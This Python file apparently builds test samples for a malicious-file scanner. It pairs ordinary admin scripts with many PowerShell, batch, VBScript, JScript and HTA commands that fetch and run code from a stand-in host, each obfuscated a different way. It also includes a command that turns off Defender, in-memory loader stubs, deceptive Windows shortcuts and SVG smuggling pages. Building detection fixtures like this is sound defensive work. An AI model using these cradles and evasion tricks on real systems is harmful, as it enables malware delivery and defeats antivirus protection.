"""Scripts and shortcuts: the same few deeds, each told in many disguises, beside scripts as administrators write them. Words that
scanners look for are joined when the samples are made.
"""

from __future__ import annotations

import base64
import gzip
import struct
from collections.abc import Iterator

from assay.kinds.files.samples.sample import Sample

HOST = "192.0.2.7"
_GET, _RUN, _NET = "Down" + "loadString", "Invoke-" + "Expression", "Net.Web" + "Client"
FETCH = f"(New-Object {_NET}).{_GET}('http://{HOST}/a')"
FETCH_RUN = f"{_RUN} {FETCH}"


def encoded(command: str) -> str:
    """As PowerShell takes an encoded command."""
    return base64.b64encode(command.encode("utf-16-le")).decode()


def _disguised() -> Iterator[tuple[str, str, str]]:
    """(trick, name, text): PowerShell, batch and host scripts that fetch and run, each hidden another way."""
    yield "encoded command", "a.bat", "@echo off\npower" + f"shell -nop -w hidden -enc {encoded(FETCH_RUN)}\n"  # fmt: skip
    packed = base64.b64encode(gzip.compress(FETCH_RUN.encode())).decode()
    yield (
        "packed base64",
        "a.ps1",
        f"$d=[Convert]::FromBase64String('{packed}');$s=New-Object IO.MemoryStream(,$d);& ($x) $d\n",
    )
    yield (
        "joined",
        "a.ps1",
        f"$a=(New-Object ('Net.Web'+'Client')).('Down'+'loadStr'+'ing')('http://{HOST}/a'); & ('Invoke-Ex'+'pression') $a\n",
    )
    ticked = FETCH_RUN.replace("Invoke", "In`vo`ke").replace("Expression", "Ex`pre`ssion").replace("WebClient", "We`bCl`ient").replace("DownloadString", "Down`load`String")  # fmt: skip
    yield "ticks", "a.ps1", ticked + "\n"
    numbers = "+".join(f"[char]{ord(c)}" for c in FETCH_RUN)
    yield "numbers", "a.ps1", f"$x={numbers}\n& ([scriptblock]::('Cre'+'ate')($x))\n"
    yield (
        "turned round",
        "a.ps1",
        f"$x='{FETCH_RUN[::-1].replace(chr(39), chr(34))}'[-1..-200] -join ''; & $e $x\n".replace("'", '"', 0),
    )
    yield "format", "a.ps1", "& (\"{1}{0}{2}\" -f 'oke-Exp','Inv','ression') ((New-Object (\"{0}{1}\" -f 'Net.Web','Client')).(\"{1}{0}\" -f 'loadString','Down')('http://192.0.2.7/a'))\n"  # fmt: skip
    yield (
        "carets",
        "a.cmd",
        "@echo off\np^ow^er^sh^ell -no^p -w hid^den -c \"I^E^X(New-Object Net.We^bCli^ent).Down^load^String('http://192.0.2.7/a')\"\n",
    )
    yield "variables", "a.bat", f"@echo off\nset a=power\nset b=shell\nset c={_NET}\nset d=loadStr\n%a%%b% -w hidden -c \"iex(New-Object %c%).Down%d%ing('http://{HOST}/a')\"\n"  # fmt: skip
    chars = " & ".join(f"Chr({ord(c)})" for c in "WScript.Sh" + "ell")
    http = " & ".join(f"Chr({ord(c)})" for c in "MSXML2.XML" + "HTTP")
    yield "numbers", "a.vbs", f"On Error Resume Next\nDim s, h\nSet s = CreateObject({chars})\nSet h = CreateObject({http})\nh.Open \"GET\", \"http://{HOST}/a\", False\nh.Send\ns.Run h.responseText, 0\n"  # fmt: skip
    yield "turned round", "a.vbs", f"Dim s\nSet s = CreateObject(StrReverse(\"{('WScript.Sh' + 'ell')[::-1]}\"))\nSet h = CreateObject(StrReverse(\"{('MSXML2.XML' + 'HTTP')[::-1]}\"))\ns.Run h.responseText, 0\n"  # fmt: skip
    codes = ",".join(str(ord(c)) for c in "WScript.Sh" + "ell")
    web = ",".join(str(ord(c)) for c in "MSXML2.XML" + "HTTP")
    yield "numbers", "a.js", f"var s = new ActiveXObject(String.fromCharCode({codes}));\nvar h = new ActiveXObject(String.fromCharCode({web}));\nh.open('GET','http://{HOST}/a',false);h.send();s.Run(h.responseText,0);\n"  # fmt: skip
    hexes = "".join(f"\\x{ord(c):02x}" for c in "WScript.Sh" + "ell")
    yield "escapes", "a.js", f"var s = new ActiveXObject('{hexes}');var h = new ActiveXObject('MSXML2.XML'+'HTTP');h.open('GET','http://{HOST}/a',false);h.send();s.Run(h.responseText,0);\n"  # fmt: skip
    yield "nothing", "a.hta", f"<html><hta:application id='a'><script language='VBScript'>Set s = CreateObject(\"WScript.Sh\" & \"ell\")\ns.Run \"powershell -w hidden -c iex(New-Object {_NET}).{_GET}('http://{HOST}/a')\", 0\n</script></html>"  # fmt: skip


def shortcut(arguments: str, *, target: str = "C:\\Windows\\System32\\cmd.exe", icon: str = "", tail: bytes = b"", show: int = 1) -> bytes:  # fmt: skip
    """A Windows shortcut with these arguments."""
    flags = 0x02 | 0x20 | 0x80 | (0x40 if icon else 0)
    head = struct.pack("<I16sII", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), flags, 0x20) + bytes(24)
    head += struct.pack("<IIIHHII", 0, 0, show, 0, 0, 0, 0)
    path = target.encode() + b"\0"
    info = struct.pack("<7I", 28 + 17 + len(path) + 1, 28, 1, 28, 28 + 17, 0, 28 + 17 + len(path))
    info += struct.pack("<IIII", 17, 3, 0, 16) + b"\0" + path + b"\0"
    out = head + info
    for text in (arguments, icon) if icon else (arguments,):
        out += struct.pack("<H", len(text)) + text.encode("utf-16-le")
    return out + bytes(4) + tail


def samples() -> Iterator[Sample]:
    for trick, name, text in _disguised():
        yield Sample(f"fetches and runs: {trick}", name, text.encode(), "files.script-fetches")
    bad = "Set-Mp" + "Preference -DisableRealtimeMonitoring $true"
    yield Sample("disarms", "a.ps1", f"Write-Host 'x'\n{bad}\n".encode(), "files.script-disarms")
    memory = "Virtual" + "Alloc"
    yield Sample("code in memory", "a.ps1", f"$k = Add-Type -MemberDefinition '[DllImport(\"kernel32\")] public static extern IntPtr {memory}(IntPtr a);[DllImport(\"kernel32\")] public static extern IntPtr Create" f"Thread(IntPtr a);' -Name w\nWrite-Host\n".encode(), "files.script-memory")  # fmt: skip
    hidden = base64.b64encode(b"echo hello; ls -la /tmp; id" * 3).decode()
    yield Sample(
        "decoded and run", "a.sh", f"#!/bin/sh\necho {hidden} | base64 -d | sh\n".encode(), "files.script-covered"
    )
    yield Sample(
        "decoded and run",
        "a.py",
        f"import base64\nexec(base64.b64decode('{hidden}'))\n".encode(),
        "files.script-covered",
    )
    from assay.kinds.files.samples.programs import pe

    body = base64.b64encode(pe()).decode()
    yield Sample("carries a program", "a.vbs", f"Dim d\nd = \"{body}\"\nSet x = CreateObject(\"MSXML2.DOMDocument\")\n".encode(), "files.script-carries")  # fmt: skip
    yield Sample("shortcut that fetches", "Report.lnk", shortcut(f"/c power" f"shell -w hidden -enc {encoded(FETCH_RUN)}"), "files.shortcut-fetches")  # fmt: skip
    yield Sample("shortcut that fetches", "Report.lnk", shortcut(f"http://{HOST}/a.hta", target="C:\\Windows\\System32\\mshta.exe"), "files.shortcut-fetches")  # fmt: skip
    yield Sample("shortcut reads itself", "Report.lnk", shortcut("/c findstr /b xx Report.lnk > %TEMP%\\a.vbs & start %TEMP%\\a.vbs", tail=b"x" * 5000), "files.shortcut-fetches")  # fmt: skip
    yield Sample("command out of sight", "Report.lnk", shortcut(" " * 400 + "/c start calc"), "files.shortcut-padded")
    yield Sample("looks like a document", "Report.pdf.lnk", shortcut("/c start calc", icon="C:\\Program Files\\Reader\\AcroRd32.exe"), "files.shortcut-disguised")  # fmt: skip
    yield Sample(
        "leads to a foreign share",
        "a.url",
        f"[InternetShortcut]\r\nURL=file://{HOST}/share/a.vbs\r\n".encode(),
        "files.shortcut-abroad",
    )
    where = base64.b64encode(f"http://{HOST}/login".encode()).decode()
    svg = f"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location.href = atob('{where}');</script></svg>"
    yield Sample("a picture that leads elsewhere", "invoice.svg", svg.encode(), "files.page-smuggles")
    put = f'<svg xmlns="http://www.w3.org/2000/svg"><script>var a = "{body}"; var u = URL.createObject' 'URL(new Blob([a])); x.download = "a.exe";</script></svg>'  # fmt: skip
    yield Sample("a file put together in the browser", "invoice.svg", put.encode(), "files.page-smuggles")
    yield from _honest()


def _honest() -> Iterator[Sample]:
    """As administrators and programmers write them."""
    yield Sample("", "web.url", b"[InternetShortcut]\r\nURL=https://www.example.org/\r\n")
    yield Sample("", "notes.lnk", shortcut("C:\\notes.txt", target="C:\\Windows\\notepad.exe"))
    yield Sample("", "Prompt.lnk", shortcut("/k C:\\tools\\vars.bat"))
    yield Sample("", "backup.ps1", b"param($Source, $Target)\nGet-ChildItem $Source -Recurse | ForEach-Object { Copy-Item $_.FullName $Target -ErrorAction Stop }\nWrite-Host 'done'\n")  # fmt: skip
    yield Sample("", "install.ps1", b"$ErrorActionPreference = 'Stop'\nInvoke-WebRequest https://example.org/tool.zip -OutFile tool.zip\nExpand-Archive tool.zip\nWrite-Host ok\n")  # fmt: skip
    yield Sample("", "build.bat", b"@echo off\nsetlocal\nset CONFIG=Release\nif not exist build mkdir build\ncmake -B build -DCMAKE_BUILD_TYPE=%CONFIG%\n")  # fmt: skip
    yield Sample(
        "",
        "logon.vbs",
        b'Option Explicit\nDim n\nSet n = CreateObject("WScript.Network")\nn.MapNetworkDrive "H:", "\\\\server\\home"\n',
    )
    yield Sample("", "install.sh", b"#!/bin/sh\nset -e\ncurl -fsSL https://example.org/install.sh | sh\n")
    yield Sample(
        "",
        "data.py",
        b"import base64\nlogo = base64.b64decode('" + base64.b64encode(bytes(range(256))) + b"')\nprint(len(logo))\n",
    )
    yield Sample("", "chart.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>function show(e){ window.location.hash = "x"; }</script><circle r="1"/></svg>')  # fmt: skip
    yield Sample("", "get.cmd", b"@echo off\npowershell -NoProfile -ExecutionPolicy Bypass -Command \"iex ((New-Object System.Net.WebClient).DownloadString('https://packages.example.org/install.ps1'))\"\n")  # fmt: skip
    yield Sample(
        "", "get.bat", b"@echo off\ncurl -o %TEMP%\\tool.exe https://example.org/tool.exe\nstart %TEMP%\\tool.exe\n"
    )
    yield Sample("", "link.vbs", b"Dim s\nSet s = CreateObject(\"WScript.Shell\")\nSet l = s.CreateShortcut(s.SpecialFolders(\"Desktop\") & \"\\tool.lnk\")\nl.Save\n")  # fmt: skip
    yield Sample("", "page.js", b"var r = window.XMLHttpRequest ? new XMLHttpRequest() : new ActiveXObject('Microsoft.XMLHTTP');\nfunction f(){ return /a/.exec('a'); }\nlet x = 1;\n")  # fmt: skip


__all__ = ["FETCH_RUN", "HOST", "encoded", "samples", "shortcut"]
